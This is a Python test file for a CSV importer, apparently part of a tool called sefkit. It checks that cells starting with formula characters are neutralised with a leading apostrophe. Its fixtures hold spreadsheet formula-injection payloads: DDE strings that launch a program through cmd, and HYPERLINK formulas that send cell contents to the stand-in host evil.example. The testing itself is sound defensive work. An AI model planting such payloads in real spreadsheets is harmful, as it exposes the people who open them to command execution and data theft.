"""Every CSV sefkit writes neutralises cells a spreadsheet would run as formulas.

`sef benchmarks import` copies names and codes from a DfE file into
sef/reference/benchmarks.csv: a text cell starting `=`, `+`, `-`, `@`, a tab or
a carriage return (or their full-width forms) gets a leading apostrophe, as
gaps.csv does (sheets.safe_cell); real numbers are written as they are.
"""

from __future__ import annotations

import csv
from pathlib import Path

from sefkit.reference import import_ees
from sefkit.reference.ees import BENCHMARK_COLUMNS, benchmarks_text

HEADER = ["time_period", "time_identifier", "geographic_level", "country_code", "region_code", "region_name",
          "new_la_code", "old_la_code", "la_name", "breakdown_topic", "breakdown", "plans_issued_den_ex",
          "plans_issued_20_weeks_ex", "PC_plans_issued_20_weeks_ex"]
HOSTILE = {
    "E12000001": "=cmd|' /C calc'!A0",
    "E12000002": "@SUM(1+1)*cmd|' /C calc'!A0",
    "E12000003": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "E12000004": "+1+cmd|' /C calc'!A0",
    "E12000005": "-2+3+cmd|' /C calc'!A0",
    "E12000006": "\t=1+1",
    "E12000007": "\uff1d1+1",           # full-width equals sign, which Excel also reads as a formula
}


def ees_file(path: Path) -> Path:
    rows = [["2024", "Calendar year", "Regional", "E92000001", code, name, "", "", "", "Total", "Total", "100", "80",
             "80"] for code, name in HOSTILE.items()]
    rows.append(["2024", "Calendar year", "Local authority", "E92000001", "E12000003", "Yorkshire", "E08000036",
                 "384", "@Wakefield", "Total", "Total", "100", "80", "80"])
    with open(path, "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(HEADER)
        writer.writerows(rows)
    return path


def test_imported_names_never_start_a_formula_and_values_stay_numbers(tmp_path):
    table = tmp_path / "benchmarks.csv"
    import_ees([ees_file(tmp_path / "timeliness.csv")], None, table, source="=HYPERLINK(\"http://evil.example\")")
    with open(table, encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    names = {r["code"]: r["name"] for r in rows}
    for code, hostile in HOSTILE.items():
        # the importer trims cells (so a leading tab is gone); what is left starts with an apostrophe
        assert names[code] == "'" + hostile.strip(), code
    assert names["384"] == "'@Wakefield"
    assert {r["source"] for r in rows} == {"'=HYPERLINK(\"http://evil.example\")"}
    assert {r["value"] for r in rows} == {"80"} and {r["denominator"] for r in rows} == {"100"}


def test_real_numbers_are_kept_and_a_second_write_changes_nothing():
    row = dict.fromkeys(BENCHMARK_COLUMNS, "")
    row.update(kpi="k", geography="la", code="384", name="=1+1", period_end="2024-12-31", value="-3.5",
               numerator="+4", denominator="1e3", source="-")
    text = benchmarks_text([row])
    written = next(csv.DictReader(text.splitlines()))
    assert (written["value"], written["numerator"], written["denominator"]) == ("-3.5", "+4", "1e3")
    assert (written["name"], written["source"]) == ("'=1+1", "'-")
    assert benchmarks_text([written]) == text       # read back and written again: no second apostrophe
